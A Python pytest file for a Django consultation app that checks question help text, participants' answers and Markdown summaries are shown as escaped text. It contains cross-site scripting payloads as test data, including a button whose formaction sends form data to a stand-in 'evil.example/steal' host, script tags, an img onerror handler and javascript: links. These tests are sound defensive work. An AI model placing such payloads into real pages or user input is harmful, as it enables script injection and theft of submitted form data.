"""Markup typed into content never becomes markup where it is shown: question help text on every page that
shows it (from the questionnaire editor and from a `create_round` file), and participants' answers and the
Chair's narrative in the Markdown summary, which may be rendered by any Markdown viewer."""

from __future__ import annotations

import io
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse

from consult.help_text import render_help_text
from consult.models import Question, Round
from feedback.summary.markdown_text import cell, neutralise
from tests import factories
from tests.consult.test_commands import DEFINITION
from tests.feedback.helpers import make_round
from tests.feedback.summary_data import answer, close, open_round, respondents

pytestmark = pytest.mark.django_db

HOSTILE_HELP = (
    'Read the guide first.\n<button formaction="https://evil.example/steal" form="answer">Save</button>'
    "<script>alert(1)</script>\nGuide: https://www.thearmstradetreaty.org/guide"
)


def assert_plain(page: str) -> None:
    assert "<button formaction" not in page and "<script>alert" not in page
    assert "&lt;button formaction=&quot;" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert 'href="https://www.thearmstradetreaty.org/guide"' in page  # a link, not a pasted address
    assert "Read the guide first.<br>" in page


# --- Help text ----------------------------------------------------------------------------------------------


def test_help_text_is_plain_text_with_line_breaks_and_links_on_the_answer_form(client_for):
    round_ = make_round()
    Question.objects.filter(round=round_, key="usability").update(help_text=HOSTILE_HELP)

    page = client_for(factories.make_participant().user).get(reverse("feedback:answer", args=[round_.pk]))

    assert_plain(page.content.decode())


def test_help_text_is_plain_text_on_the_secretariats_questionnaire_page(secretariat_client):
    round_ = make_round(state="scheduled")
    Question.objects.filter(round=round_, key="usability").update(help_text=HOSTILE_HELP)

    page = secretariat_client.get(reverse("consult:questionnaire", args=[round_.pk]))

    assert_plain(page.content.decode())


def test_help_text_is_plain_text_in_the_preview_of_a_round_not_yet_open(client_for):
    participant = factories.make_participant()
    round_ = make_round(state="scheduled")
    Question.objects.filter(round=round_, key="usability").update(help_text=HOSTILE_HELP)

    page = client_for(participant.user).get(reverse("feedback:answer", args=[round_.pk]))

    assert_plain(page.content.decode())


def test_help_text_from_a_create_round_file_reaches_the_form_as_text(tmp_path, client_for):
    definition = {**DEFINITION, "opens_at": "2026-09-01T09:00:00Z"}  # open now, inside its cycle
    definition["questions"] = [{"key": "q1", "text": "What should change?", "kind": "text", "help": HOSTILE_HELP}]
    path = tmp_path / "round.json"
    path.write_text(json.dumps(definition))
    call_command("create_round", str(path), stdout=StringIO())

    round_ = Round.objects.get()
    page = client_for(factories.make_participant().user).get(reverse("feedback:answer", args=[round_.pk]))

    assert_plain(page.content.decode())


def test_help_text_links_only_web_addresses():
    rendered = render_help_text("javascript:alert(1) and data:text/html,<b>x</b> and mailto-less x@y")

    assert "<a " not in rendered.replace('<a href="mailto:', "")
    assert "&lt;b&gt;" in rendered


# --- The Markdown summary -----------------------------------------------------------------------------------


HOSTILE_ANSWER = (
    'Great tool <img src=x onerror="alert(1)"> see [the guide](javascript:alert(1)) and [x]: javascript:alert(2) '
    "and &lt;script&gt; and a pipe | too"
)


def test_the_markdown_summary_shows_participants_html_as_text(tmp_path):
    round_ = open_round(
        questions=[
            ("formats", "multi_choice", "Which <b>formats</b>?", ["Excel <i>xlsx</i>", "CSV|TSV"]),
            ("improve", "text", "What should change?", []),
        ]
    )
    for person in respondents(3):
        answer(round_, person, {"formats": ["Excel <i>xlsx</i>", "CSV|TSV"], "improve": HOSTILE_ANSWER})
    close(round_)
    output = tmp_path / "summary.md"

    call_command(
        "generate_summary", round_.pk, "--format", "md", "--output", str(output), "--preview", stdout=io.StringIO()
    )

    text = output.read_text()
    assert "<" not in text
    assert "&lt;img src=x onerror=" in text and "Which &lt;b>formats&lt;/b>?" in text
    assert "](javascript" not in text and "]\\(javascript" in text and "]\\: javascript" in text
    assert "&amp;lt;script&amp;gt;" in text  # an entity typed by a participant reads as typed
    assert "| Excel &lt;i>xlsx&lt;/i> |" in text and "| CSV\\|TSV |" in text


def test_markdown_table_cells_stay_in_their_cell():
    assert cell("ends with a backslash\\") == "ends with a backslash\\\\"
    assert cell("two\nlines | and a pipe") == "two lines \\| and a pipe"
    assert neutralise("R&D and [a State]") == "R&D and [a State]"
